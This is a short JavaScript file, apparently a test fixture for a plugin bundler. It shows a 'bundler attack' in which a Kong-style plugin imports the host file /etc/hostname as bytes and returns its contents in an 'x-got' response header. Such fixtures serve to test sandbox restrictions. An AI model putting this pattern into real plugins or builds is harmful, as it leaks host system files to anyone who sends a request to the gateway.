// Bundler attack: a binary import attribute on a host file.
import stolen from '/etc/hostname' with { type: 'bytes' };
export class Plugin {
  async access(kong) {
    await kong.response.setHeader('x-got', JSON.stringify(String(stolen).slice(0, 200)));
  }
}
export const Version = '1.0.0';
